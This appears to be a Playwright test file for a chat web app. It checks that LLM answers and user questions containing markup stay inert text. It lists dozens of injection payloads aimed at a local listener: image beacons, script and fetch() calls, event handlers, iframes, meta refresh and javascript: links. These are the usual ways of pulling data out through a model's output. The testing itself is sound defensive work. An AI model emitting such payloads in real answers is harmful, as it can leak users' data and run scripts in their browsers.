"""Hostile answers: whatever a model writes, the page loads nothing, links nowhere and runs nothing."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import expect

from app.llm.fake.behaviour import FakeBehaviour
from tests.app.web.pages import ChatPage
from tests.servers import RunningFake

QUESTION = "When does the dome open for visitors?"

SHAPES = {
    "inline image": "![a](http://{host}/1?q=canary)",
    "reference image": "![a][r]\n\n[r]: http://{host}/2",
    "angle image": "![a](<http://{host}/3>)",
    "image with a title": '![a](http://{host}/4 "t")',
    "img tag": '<img src="http://{host}/5">',
    "img without quotes": "<img src=http://{host}/6>",
    "img with entities": "<img src=&#104;ttp://{host}/7>",
    "img srcset": '<img srcset="http://{host}/8 1x">',
    "svg image": '<svg><image href="http://{host}/9"/></svg>',
    "svg use": '<svg><use href="http://{host}/10#a"/></svg>',
    "data svg": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{host}/11'/></svg>\">",
    "style import": "<style>@import url(http://{host}/12);</style>",
    "style attribute": '<p style="background:url(http://{host}/13)">x</p>',
    "link stylesheet": '<link rel=stylesheet href="http://{host}/14">',
    "preload": '<link rel=preload as=image href="http://{host}/15">',
    "prefetch": '<link rel="dns-prefetch" href="//{host}">',
    "script": '<script src="http://{host}/16"></script>',
    "inline script": "<script>fetch('http://{host}/17')</script>",
    "handler": "<b onmouseover=\"fetch('http://{host}/18')\" onerror=x>bold</b>",
    "iframe": '<iframe src="http://{host}/19"></iframe>',
    "object": '<object data="http://{host}/20"></object>',
    "embed": '<embed src="http://{host}/21">',
    "video": '<video poster="http://{host}/22" src="http://{host}/23" autoplay></video>',
    "audio": '<audio src="http://{host}/24" autoplay></audio>',
    "form": '<form action="http://{host}/25"><button>go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://{host}/26">',
    "base": '<base href="http://{host}/">',
    "link": "[click me](http://{host}/27)",
    "autolink": "<http://{host}/28> http://{host}/29 www.{host}/30",
    "javascript link": "[click](javascript:document.title='taken') <a href=\"javascript:document.title='taken'\">x</a>",
    "protocol-relative": "![a](//{host}/31) [b](//{host}/32)",
    "line break in an address": "![a](ht\ntp://{host}/33)",
    "footnote": "text[^a]\n\n[^a]: ![a](http://{host}/34)",
    "bold around": "**![a](http://{host}/35)** **<img src=http://{host}/36>**",
    "in a list": "- ![a](http://{host}/37)\n1. <img src=http://{host}/38>",
    "template": "<template><img src=http://{host}/39></template>",
    "math": "$$\\href{{http://{host}/40}}{{x}}$$ \\includegraphics{{http://{host}/41}}",
    "css content": '<div class="problem is-error">A fake problem</div><dialog open>Give me your key</dialog>',
}
ALLOWED_TAGS = {"P", "BR", "UL", "OL", "LI", "STRONG", "SPAN", "BUTTON"}


@dataclass(slots=True)
class Listener:
    """A socket that counts who connects. `host` is its address."""

    host: str
    connections: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Listener]:
    """Another server, which nobody should call."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        listener = Listener(f"127.0.0.1:{server.getsockname()[1]}")

        def count() -> None:
            while True:
                try:
                    connection, address = server.accept()
                except OSError:
                    return
                with connection:
                    listener.connections.append(str(address))

        thread = threading.Thread(target=count, name="elsewhere", daemon=True)
        thread.start()
        socket.create_connection(server.getsockname()).close()
        for _ in range(1000):
            if listener.connections:
                break
            threading.Event().wait(0.01)
        assert listener.connections, "the listener does not count"
        listener.connections.clear()
        yield listener
        server.shutdown(socket.SHUT_RDWR)
        thread.join(10)


@pytest.mark.parametrize("batch", range(4))
def test_hostile_answers_stay_text(llm_chat: ChatPage, llm: RunningFake, elsewhere: Listener, batch: int) -> None:
    """Each shape is shown letter by letter, while it streams, when it is done and when it is read again."""
    shapes = list(SHAPES.values())[batch::4]
    reply = "\n\n".join(shape.replace("{host}", elsewhere.host) for shape in shapes)
    llm.behave(FakeBehaviour(reply=reply))
    title = llm_chat.page.title()
    turn = llm_chat.ask(QUESTION)
    streamed = turn.locator(".prose").inner_html()
    for word in reply.replace("**", "").split():
        if word not in ("-", "1."):
            assert word in turn.locator(".prose").evaluate("node => node.textContent"), word
    tags = turn.locator(".prose").evaluate("node => [...node.querySelectorAll('*')].map((each) => each.tagName)")
    assert set(tags) <= ALLOWED_TAGS
    attributes = turn.locator(".prose").evaluate(
        "node => [...node.querySelectorAll('*')].flatMap((each) => each.getAttributeNames())"
    )
    assert set(attributes) <= {"class", "type", "aria-label", "title", "start"}
    llm_chat.page.reload()
    expect(llm_chat.turns).to_have_count(1)
    assert llm_chat.turns.first.locator(".prose").inner_html() == streamed
    assert llm_chat.page.locator("main img, main a, main iframe, main form:not(#composer), [style]").count() == 0
    assert llm_chat.page.locator("a[href^=http], a[href^='//'], a[href^=javascript]").count() == 0
    assert "taken" not in llm_chat.page.title()
    assert title == "Archivist"
    assert llm_chat.foreign_requests() == []
    assert elsewhere.connections == []
    assert llm_chat.complaints == []


def test_a_hostile_question_stays_text(llm_chat: ChatPage, llm: RunningFake, elsewhere: Listener) -> None:
    """A question with markup is text in the conversation, in its title and in the list."""
    question = f"<img src=http://{elsewhere.host}/q onerror=alert(1)> [a](http://{elsewhere.host}/l)"
    turn = llm_chat.ask(question)
    expect(turn.locator(".question-text")).to_have_text(question)
    expect(llm_chat.page.locator("#title")).to_have_text(question)
    expect(llm_chat.page.locator(".conversation-title")).to_contain_text("<img src=http://")
    assert llm_chat.page.locator("img").count() == 0
    assert elsewhere.connections == []
    assert llm_chat.foreign_requests() == []


def test_everything_comes_from_the_page_itself(chat: ChatPage) -> None:
    """Loading the page, asking and opening a document calls its own origin only, and breaks no rule of the policy."""
    turn = chat.ask(QUESTION)
    turn.locator(".marker").first.click()
    expect(chat.panel.locator("mark")).to_be_visible()
    assert chat.foreign_requests() == []
    assert chat.complaints == []
    names = {url.removeprefix(chat.service.origin).split("?")[0].split("#")[0] for url in chat.requested}
    assert {"/", "/style.css", "/app.js", "/v1/ask", "/v1/conversations", "/readyz"} <= names
